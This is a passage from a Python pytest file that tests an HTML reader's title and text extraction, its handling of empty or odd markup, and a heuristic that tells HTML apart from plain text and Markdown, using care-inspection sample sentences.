        read_html("<title>Care homes: a guide - part 2 | CQC</title><p>Text.</p>").title
        == "Care homes: a guide - part 2"
    )
    assert read_html("<p>No title anywhere.</p>").title == ""


@pytest.mark.parametrize(
    "markup",
    ["", "   \n", "\ufeff", "<html><head><title>T</title><script>var a = 1;</script></head><body></body></html>",
     "<html><body><nav><a href='/'>Home</a></nav><footer>© 2024</footer></body></html>"],
)  # fmt: skip
def test_a_page_without_text_is_a_load_error(markup: str) -> None:
    with pytest.raises(LoadError):
        read_html(markup)


def test_xml_declaration_bom_and_control_characters_are_tolerated() -> None:
    markup = '\ufeff<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html><html><body><p>Fire\x00 doors were\u00ad ' \
        'propped\u200b open.</p></body></html>'  # fmt: skip
    assert read_html(markup).text == "Fire doors were propped open."


def test_tiny_pages_and_lone_links() -> None:
    assert read_html("<p>x</p>").text == "x"
    assert read_html("<div>Short text only.</div>").text == "Short text only."
    page = "<p><a href='/more'>Read the full report</a></p><p>The fire alarm was tested <a href='/w'>weekly</a>.</p>"
    assert read_html(page).text == "The fire alarm was tested weekly."  # a link on its own is a way out, not content


def test_line_breaks_split_blocks_and_inline_markup_does_not() -> None:
    document = read_html("<p>Ward <b>A</b> had <a href='/x'>two</a> nurses.<br>Ward B had one.</p>")
    assert texts(document) == ["Ward A had two nurses.", "Ward B had one."]


# --- looks_like_html ---------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [HAYSTACK, ESSAY])
def test_looks_like_html_on_real_pages(path: Path) -> None:
    assert looks_like_html(path.read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    "text",
    [
        "\ufeff  <!DOCTYPE html><html><body><p>x</p></body></html>",
        "<?xml version='1.0'?>\n<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN'><html></html>",
        "<HTML><BODY>Old page</BODY></HTML>",
        "<!-- saved from url=(0014)about:internet -->\n<html><body>x</body></html>",
        "<div class='report'>\n<h2>Findings</h2>\n<p>The kitchen was clean.</p>\n<ul><li>Fridge 4C</li></ul>\n</div>",
        "Saved page:\n<div><p>One</p><p>Two</p><p>Three</p><table><tr><td>a</td></tr></table></div>",
    ],
)
def test_looks_like_html_true(text: str) -> None:
    assert looks_like_html(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "The inspector noted that the <p> tag on the provider's website was misused.\nNothing else to report.",
        "Use <b>bold</b> sparingly.\n\nThe report covers staffing, medicines and premises across three visits.",
        "# Findings\n\nThe home was <b>clean</b>.<br>\n\n- item one\n- item two\n\n<div>note</div> and <p>more</p>",
        "## Setup\n\n```html\n<html><body><div><p>example</p></div></body></html>\n```\n",
        "Dear team,\n\nPlease see the notes below <3 and reply by Friday > Monday.\n\nThanks",
    ],
)
def test_looks_like_html_false(text: str) -> None:
    assert not looks_like_html(text)


def test_looks_like_html_false_on_the_real_markdown_file() -> None:
    assert not looks_like_html((REALDOCS / "sample.md").read_text(encoding="utf-8"))
